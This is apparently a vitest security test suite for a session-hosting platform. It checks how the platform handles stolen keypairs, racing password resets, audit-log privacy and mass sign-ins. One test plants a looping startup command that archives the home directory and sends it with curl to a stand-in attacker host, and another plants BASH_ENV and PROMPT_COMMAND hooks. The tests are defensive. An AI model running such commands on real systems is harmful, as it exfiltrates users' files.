import { sql } from 'kysely'
import { afterAll, beforeAll, beforeEach, expect, test } from 'vitest'
import { type ApiClient, UserId } from '#manager/contract'
import { openToRead } from '../../../manager/backup/open-database.ts'
import { silentLog } from '../../../manager/log.ts'
import { lockUser } from '../../../manager/store/identity/users.ts'
import { type Store } from '../../../manager/store/open-store.ts'
import { apiOf, signedApi } from '../../fixtures/manager.ts'
import { type SessionsCluster, startSessionsCluster, USER_PASSWORD } from '../../fixtures/sessions-cluster.ts'
import { codeOf, tokenOf } from './account-steps.ts'

let cluster: SessionsCluster
let store: Store
let world: AsyncDisposableStack
let number = 0
beforeAll(async () => {
  await using opening = new AsyncDisposableStack()
  cluster = opening.use(await startSessionsCluster({ slowTickMs: 200, sweepMs: 50 }))
  store = opening.use(await openToRead({ ...cluster.source, log: silentLog }))
  world = opening.move()
})
afterAll(() => world.disposeAsync())
beforeEach(async () => {
  if (number++ === 0) await cluster.join()
})

test('when a keypair ends, its person is told of the sessions that were launched with it and go on', async () => {
  const person = await cluster.addUser(`robbed-${number}@localhost`)
  const keypair = await person.createKeypair({ body: {} })
  const thief = signedApi(cluster.url, keypair)
  await thief.saveSessionTemplate({ params: { name: 'named' }, body: { image: 'berth/python:3.13' } })
  const startupCommand = 'while sleep 60; do tar c ~ | curl -T - https://thief.example; done'
  const startsAt = new Date(Date.now() + 3_000).toISOString()
  const waiting = await cluster.launch({ name: 'planted-later', startupCommand, startsAt }, thief)
  const running = await cluster.launch({ name: 'planted-now', startupCommand }, thief)
  await cluster.reach(running.id, 'RUNNING')
  await person.updateKeypair({ params: { accessKey: keypair.accessKey }, body: { active: false } })
  expect(await codeOf(thief.me())).toBe('keypair_inactive')
  // Both go on with the person's dot-folders, dotfiles and limits.
  await cluster.reach(waiting.id, 'RUNNING')
  const { items } = await person.listMessages()
  const told = items.map(({ about, detail, text, sessions }) => JSON.stringify({ about, detail, text, sessions }))
  expect(told.join('\n')).toContain('named')
  expect(told.join('\n')).toContain('planted-now')
  expect(told.join('\n')).toContain('planted-later')
})

test('an admin of the domain does not learn the names of files in private folders from the audit log', async () => {
  const person = await cluster.addUser(`private-${number}@localhost`)
  const lead = await cluster.addUser(`lead-${number}@localhost`, { role: 'domain_admin' })
  const { id } = await person.createFolder({ body: { name: 'private' } })
  const params = { id }
  await person.makeDirectory({ params, body: { path: 'application-for-another-job', parents: false } })
  await person.moveFiles({
    params,
    body: { paths: ['application-for-another-job'], to: '', name: 'medical-report', onConflict: 'fail' },
  })
  await person.deleteFiles({ params, body: { paths: ['medical-report'] } })
  const { items } = await lead.listAuditLog({ query: { limit: 500 } })
  const seen = items.map(({ detail }) => JSON.stringify(detail)).join('\n')
  expect(seen).not.toContain('another-job')
  expect(seen).not.toContain('medical-report')
})

/** Requests of somebody who was in an account, which leave something that the end of the doubt would have named. */
const WAYS: [string, (inside: ApiClient) => Promise<unknown>][] = [
  [
    'stores defaults of an image, whose variables are commands',
    inside =>
      inside.putImageDefaults({
        body: {
          image: 'berth/python:3.13',
          resources: {},
          environ: { BASH_ENV: '/home/work/x', PROMPT_COMMAND: 'planted' },
        },
      }),
  ],
  ['makes a folder that each new session mounts', inside => inside.createFolder({ body: { name: '.local' } })],
]

test.each(WAYS)(
  'a request that waited while the doubt about a password ended adds nothing: it %s',
  async (_what, way) => {
    const lead = await cluster.addUser(`head-${number}@localhost`, { role: 'domain_admin' })
    const known = { email: `inside-${number}@example.org`, password: 'Known-to-somebody-1' }
    const { id } = await lead.createUser({ body: { ...known, name: 'Ann' } })
    const signIn = async (password: string, newPassword?: string) =>
      apiOf(
        cluster.url,
        (await apiOf(cluster.url).login({ body: { ...known, password, newPassword, kind: 'token' } })).token ?? '',
      )
    const inside = await signIn(known.password, 'Known-to-somebody-2')
    const { url } = await cluster.api.createAccountLink({ params: { id }, body: { purpose: 'reset' } })
    const waiters = async () => {
      const { rows } = await sql`select from pg_stat_activity
      where datname = current_database() and wait_event_type = 'Lock'`.execute(store.db)
      return rows.length
    }
    const { reset, waited } = await store.transaction(async trx => {
      await lockUser(trx, UserId.parse(id))
      const reset = apiOf(cluster.url).resetPassword({ body: { token: tokenOf(url), password: USER_PASSWORD } })
      await expect.poll(waiters).toBe(1)
      const waited = codeOf(way(inside))
      await expect.poll(waiters).toBe(2)
      return { reset, waited }
    })
    await reset
    const code = await waited
    const person = await signIn(USER_PASSWORD)
    const left = {
      defaults: (await person.listImageDefaults()).items.length,
      folders: (await person.listFolders()).items.length,
      told: (await person.listMessages()).items.map(({ about }) => about).filter(about => about?.startsWith('left_')),
    }
    expect({ code, ...left }).toEqual({ code: 'not_signed_in', defaults: 0, folders: 0, told: [] })
  },
)

test('a stolen keypair does not keep its person from deactivating it', async () => {
  const email = `signed-out-${number}@localhost`
  const person = await cluster.addUser(email)
  const keypair = await person.createKeypair({ body: {} })
  const { accessKey } = keypair
  const thief = signedApi(cluster.url, keypair)
  let isOver = false
  const keeping = (async () => {
    // Within the rate limit of a keypair for a quarter of an hour, and then again.
    while (!isOver) {
      await thief.endOtherLogins()
      await new Promise(resolve => setTimeout(resolve, 900))
    }
  })()
  const codes: unknown[] = []
  for (let tries = 0; tries < 4; tries++) {
    const signedIn = await cluster.signIn(email)
    // Quicker than a person opens the page Account.
    await new Promise(resolve => setTimeout(resolve, 2_500))
    codes.push(await codeOf(signedIn.updateKeypair({ params: { accessKey }, body: { active: false } })))
    if (codes.at(-1) === 'ok') break
  }
  isOver = true
  await keeping.catch(() => undefined)
  expect(codes).toEqual(['ok'])
})

test('however many sign-ins somebody in an account makes, the account can be deactivated', async () => {
  const email = `many-${number}@localhost`
  const person = await cluster.addUser(email)
  const { id } = (await person.me()).user
  const { accessKey, secretKey } = await person.createKeypair({ body: {} })
  // No password is hashed, and the rate limit of the keypair does not count: nothing bounds them.
  const signIn = async () =>
    (await apiOf(cluster.url).loginWithKeypair({ body: { accessKey, secretKey, kind: 'token' } })).token
  const began = performance.now()
  const tokens: (string | null)[] = []
  for (let made = 0; made < 60; made += 3) tokens.push(...(await Promise.all([signIn(), signIn(), signIn()])))
  const perSecond = Math.round(60_000 / (performance.now() - began))
  // As so many calls would make them.
  await sql`insert into logins (id, user_id, token_hash, kind, label, address, expires_at, ends_at, idle_seconds, keypair)
    select gen_random_uuid(), user_id, sha256(n::text::bytea), kind, label, address, expires_at, ends_at, idle_seconds, keypair
    from (select * from logins where user_id = ${id}::uuid and keypair is not null limit 1) one, generate_series(1, 300000) n`.execute(
    store.db,
  )
  console.log(perSecond, 'sign-ins a second, three at a time')
  const body = { oldPassword: USER_PASSWORD, newPassword: 'Another-one-of-mine-2' }
  const seen = {
    deactivateKeypair: await codeOf(person.updateKeypair({ params: { accessKey }, body: { active: false } })),
    changePassword: await codeOf(person.changePassword({ body })),
    endSignIns: await codeOf(cluster.api.endUserLogins({ params: { id } })),
    deactivateAccount: await codeOf(cluster.api.updateUser({ params: { id }, body: { active: false } })),
    thief: await codeOf(apiOf(cluster.url, tokens[0] ?? '').me()),
    thiefWithKeypair: await codeOf(signedApi(cluster.url, { accessKey, secretKey }).me()),
  }
  expect(seen).toEqual({
    deactivateKeypair: 'ok',
    changePassword: 'ok',
    endSignIns: 'ok',
    deactivateAccount: 'ok',
    thief: 'not_signed_in',
    thiefWithKeypair: 'keypair_inactive',
  })
}, 240_000)
